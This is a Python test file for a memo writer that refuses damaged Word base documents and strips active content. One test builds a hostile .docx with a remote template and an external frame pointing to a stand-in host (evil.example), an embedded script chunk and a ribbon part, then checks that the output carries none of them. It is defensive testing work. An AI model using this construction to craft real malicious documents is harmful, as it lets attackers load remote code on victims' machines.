"""A base document that is damaged is refused; one that acts gives a memo that does not."""

from __future__ import annotations

import random
import re
import zipfile
from io import BytesIO
from typing import TYPE_CHECKING, Final

import pytest

from briefer.errors import InputError
from briefer.memo.word.writer import write
from tests.memo.formats.active import active
from tests.memo.formats.lines import WORD

if TYPE_CHECKING:
    from briefer.memo.document import Memo
    from briefer.memo.style import Style

OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL: Final = "https://evil.example/x.dotm"


def parts_of(docx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(docx)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def written(memo: Memo, sheet: Style, base: bytes) -> bytes:
    """Write a memo, or say in one sentence why not: then nothing is returned."""
    try:
        return write(memo, sheet, base)
    except InputError as error:
        told = str(error)
    assert re.fullmatch(r"The template's base\.docx is (not a Word|too large)[^.]*\.", told)
    return b""


PARTS: Final = (
    *("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"),
    *("word/document.xml", "word/settings.xml", "word/styles.xml"),
)


@pytest.mark.parametrize("name", PARTS)
def test_one_whose_part_is_missing_or_damaged_is_refused(
    name: str, page_memo: Memo, sheet: Style, base_docx: bytes
) -> None:
    whole = parts_of(base_docx)
    for data in (b"", b"\x00junk", whole[name][: len(whole[name]) // 2], b"<a/>"):
        assert not written(page_memo, sheet, zipped({**whole, name: data}))
    needed = {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
    without = written(page_memo, sheet, zipped({n: d for n, d in whole.items() if n != name}))
    assert not without or name not in needed


def test_one_with_any_damage_is_refused_or_gives_a_memo(
    page_memo: Memo, sheet: Style, base_docx: bytes
) -> None:
    whole = parts_of(base_docx)
    for seed in range(60):
        chance = random.Random(seed)
        flipped = bytearray(base_docx)
        for _ in range(chance.randrange(1, 30)):
            flipped[chance.randrange(len(flipped))] = chance.randrange(256)
        written(page_memo, sheet, bytes(flipped))
        name = chance.choice(PARTS)
        tags = list(re.finditer(rb"<[^>?]+?/>", whole[name]))
        if tags:
            lost = chance.choice(tags)
            data = whole[name][: lost.start()] + whole[name][lost.end() :]
            written(page_memo, sheet, zipped({**whole, name: data}))


def related(kind: str, target: str, *, outside: bool = False) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="evil" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'.encode()


def test_one_that_loads_or_acts_gives_a_memo_that_does_not(
    page_memo: Memo, sheet: Style, base_docx: bytes
) -> None:
    parts = parts_of(base_docx)
    head = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    types, rels, package = "[Content_Types].xml", "word/_rels/document.xml.rels", "_rels/.rels"
    parts["word/_rels/settings.xml.rels"] = (
        head + related("attachedTemplate", EVIL, outside=True) + b"</Relationships>"
    )
    attached = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="evil"/>'.encode()
    start = re.search(rb"<w:settings[^>]*>", parts["word/settings.xml"])
    assert start
    settings = parts["word/settings.xml"]
    parts["word/settings.xml"] = settings[: start.end()] + attached + settings[start.end() :]
    inner = related("aFChunk", "chunk.html")
    outer = related("frame", EVIL, outside=True).replace(b'"evil"', b'"frame"')
    parts[rels] = parts[rels].replace(b"</Relationships>", inner + outer + b"</Relationships>")
    ribbon = related("ui/extensibility", "ui.xml")
    parts[package] = parts[package].replace(b"</Relationships>", ribbon + b"</Relationships>")
    parts |= {"word/chunk.html": b"<script>", "ui.xml": b"<x/>"}
    kinds = b'<Default Extension="html" ContentType="text/html"/>'
    parts[types] = parts[types].replace(b"</Types>", kinds + b"</Types>")
    base = zipped(parts)
    assert len(active(base, WORD)) >= 4
    made = write(page_memo, sheet, base)
    assert active(made, WORD) == []
    assert made == write(page_memo, sheet, base_docx)
